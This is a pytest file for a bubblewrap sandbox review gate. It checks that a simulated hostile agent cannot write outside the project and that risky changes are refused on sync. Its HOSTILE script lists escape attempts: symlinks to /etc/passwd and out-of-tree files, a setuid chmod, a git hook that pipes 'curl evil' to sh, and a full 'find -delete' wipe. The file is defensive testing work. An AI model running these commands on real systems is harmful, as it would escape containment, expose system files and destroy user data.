"""A hostile agent in a real bubblewrap sandbox: after `approve --all` and a sync, nothing
outside the project changed, no symlink was followed, and every flagged item was refused."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest

from airlock.review.changes import symlink_problem
from airlock.review.models import display_path
from tests.review_support import GateEnv, Tree, needs_bwrap, numbered, tree_state, write_tree

pytestmark = needs_bwrap

BIG = 200 << 20
MANY = 200
PROJECT = {
    "a.txt": numbered(10),
    "tool.sh": "#!/bin/sh\n",
    "docs/guide.md": "guide\n",
    "docs/sub/x.md": "x\n",
    ".git/config": "[core]\n",
    ".git/hooks/README": "hooks\n",
    **{f"many/f{n:03}.txt": f"{n}\n" for n in range(MANY)},
}
HOSTILE = r"""
echo pwned > ../x 2>/dev/null || true
echo pwned > /tmp/abs.txt
echo inside > /workspace/abs-inside.txt
ln -s /etc/passwd passwd
ln -s .. up
ln -s ../../outside/secret.txt escape
ln -s up/outside/secret.txt chained
rm -r docs && ln -s /etc docs
rm shared && mkdir shared && echo pwned > shared/secret.txt
mkfifo pipe
echo 'echo hi' >> tool.sh && chmod 4755 tool.sh
head -c 209715200 /dev/zero > big.bin
printf 'caf\xe9 \xff\xfe\n' > latin1.txt
for f in many/*.txt; do mv "$f" "${f%.txt}.md"; done
mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/post-checkout
echo x > "$(printf 'bad\377name')"
"""
FLAGGED = {"passwd", "up", "escape", "chained", "docs", "pipe", "tool.sh", "bad\\xffname"}


def outside_state(base: Path) -> dict[str, Tree | str]:
    """What lies next to the project (and a system file a symlink aims at)."""
    passwd = hashlib.sha256(Path("/etc/passwd").read_bytes()).hexdigest()
    return {"outside": tree_state(base / "outside"), "passwd": passwd, "x": str(os.listdir("/"))}


@pytest.fixture
async def env(tmp_path: Path) -> GateEnv:
    write_tree(tmp_path / "outside", {"secret.txt": "secret\n"})
    # `shared` is the user's own link out of the project
    return await GateEnv.create(tmp_path, PROJECT, links={"shared": "../outside"})


async def test_hostile_agent_cannot_reach_outside_the_project(env: GateEnv) -> None:
    outside = outside_state(env.base)
    git = {p: v for p, v in tree_state(env.project).items() if p.startswith(".git")}
    await env.run(HOSTILE)
    changes = await env.gate.refresh()
    flagged = {display_path(c.path) for c in changes if c.flags}
    assert flagged == FLAGGED
    env.gate.approve_all()
    report = await env.gate.sync()

    assert outside_state(env.base) == outside
    assert not (env.base / "x").exists()
    refused = {issue.path: issue.reason for issue in report.refused}
    assert set(refused) == FLAGGED and all(refused.values())
    assert refused["passwd"] == "symlink to /etc/passwd points outside the project"
    assert refused["pipe"] == "fifo: special files are never synced"
    assert refused["tool.sh"] == "setuid bit is never synced"
    assert refused["bad\\xffname"] == "its name is not valid UTF-8"
    assert report.conflicts == []

    host = tree_state(env.project)
    links = {path: target for path, (kind, target, _) in host.items() if kind == "symlink"}
    assert links == {}  # the user's `shared` link was replaced by the approved real folder
    assert host["shared"][0] == "dir"
    assert host["shared/secret.txt"][1] == b"pwned\n"
    assert host["docs"] == ("dir", None, 0o755)  # emptied as approved, never a symlink
    assert not any(p.startswith("docs/") for p in host)
    assert all(kind in ("file", "dir") for kind, _, _ in host.values())
    assert all(not mode & 0o7000 for _, _, mode in host.values())
    assert host["tool.sh"] == ("file", b"#!/bin/sh\necho hi\n", 0o755)
    assert host["latin1.txt"][1] == b"caf\xe9 \xff\xfe\n"
    assert host["abs-inside.txt"][1] == b"inside\n"
    assert (env.project / "big.bin").stat().st_size == BIG
    assert sorted(p for p in host if p.startswith("many/")) == [
        f"many/f{n:03}.md" for n in range(MANY)
    ]
    assert {p: v for p, v in host.items() if p.startswith(".git")} == git
    assert not any(
        symlink_problem(p, str(t), {}) for p, (k, t, _) in host.items() if k == "symlink"
    )


async def test_agent_deleting_everything_is_synced_then_undone_exactly(tmp_path: Path) -> None:
    modes = {"docs": 0o750, "tool.sh": 0o4755, "a.txt": 0o600}
    env = await GateEnv.create(tmp_path, PROJECT, links={"link": "a.txt"}, modes=modes)
    before = tree_state(env.project)
    await env.run("find . -mindepth 1 -delete")
    changes = await env.gate.refresh()
    assert len(changes) == len([p for p in before if not p.startswith(".git")])  # ignored
    env.gate.approve_all()
    report = await env.gate.sync()
    assert report.conflicts == [] and report.refused == []
    assert sorted(tree_state(env.project)) == [
        ".git",
        ".git/config",
        ".git/hooks",
        ".git/hooks/README",
    ]
    await env.gate.undo()
    assert tree_state(env.project) == before
    assert [before[p][2] for p in modes] == list(modes.values())
